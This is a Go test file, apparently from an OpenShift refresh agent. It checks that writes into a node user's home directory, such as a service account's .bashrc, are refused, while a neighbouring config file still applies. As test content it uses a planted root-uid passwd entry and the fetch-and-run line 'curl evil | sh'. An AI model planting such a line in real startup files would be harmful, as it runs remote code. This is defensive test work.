package apply_test

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openshift/refresh-agent/allowlist"
	"github.com/openshift/refresh-agent/api"
	"github.com/openshift/refresh-agent/apply"
)

// Round 23 (d/03): a home directory the node's /etc/passwd names is refused to every rule and
// ceiling, wherever it lies: a service account's .bashrc or .ssh there runs code or logs in as it.
// A file beside it still applies.
func TestANodeUsersHomeIsNeverRefreshed(t *testing.T) {
	n := newNode(t)
	pw := filepath.Join(n.dir, "etc/passwd")
	data, err := os.ReadFile(pw)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(pw, append(data, []byte("svc:x:0:0:svc:/etc/myapp/svc:/bin/bash\nnobody:x:65534:65534::/:/sbin/nologin\n")...), 0o644))
	pol, err := allowlist.ParsePolicy([]byte("configMapCeiling:\n- {prefix: /etc/myapp/, actions: [None]}\n"))
	require.NoError(t, err)
	n.Host.Policy = pol
	entry := []allowlist.Rule{{Path: "/etc/myapp/", Action: allowlist.ActionNone}}
	for _, p := range []string{"/etc/myapp/svc/.bashrc", "/etc/myapp/svc"} {
		req := apply.Request{Desired: v2().File(p, []byte("curl evil | sh\n"), 0o644).JSON(), Hash: "evil", NoRebootPaths: entry, DryRun: true}
		res, err := apply.Run(context.Background(), n.Host, req)
		require.NoError(t, err)
		assert.Equal(t, api.OutcomeRefused, res.Outcome, p)
		assert.Contains(t, res.Reason, "home of the node's user svc", p)
	}
	req := apply.Request{Desired: v2().File("/etc/myapp/app.conf", []byte("x"), 0o644).JSON(), Hash: "ok", NoRebootPaths: entry}
	res, err := apply.Run(context.Background(), n.Host, req)
	require.NoError(t, err)
	assert.Equal(t, api.OutcomeApplied, res.Outcome, res.Reason)
}
